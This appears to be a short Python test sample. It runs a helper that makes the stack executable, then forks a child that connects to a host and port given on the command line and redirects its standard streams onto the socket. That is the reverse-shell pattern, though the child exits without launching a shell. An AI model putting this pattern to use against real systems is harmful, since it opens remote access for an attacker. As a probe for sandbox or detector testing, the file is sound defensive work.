# SPDX-License-Identifier: Apache-2.0
"""Make a page of the stack executable; then a child puts a connection in the place of its standard streams."""

import os
import runpy
import socket
import sys
from pathlib import Path

runpy.run_path(str(Path(__file__).with_name("stack.py")))
child = os.fork()
if child == 0:
    connection = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
    for number in range(3):
        os.dup2(connection.fileno(), number)
    os._exit(0)
os.waitpid(child, 0)
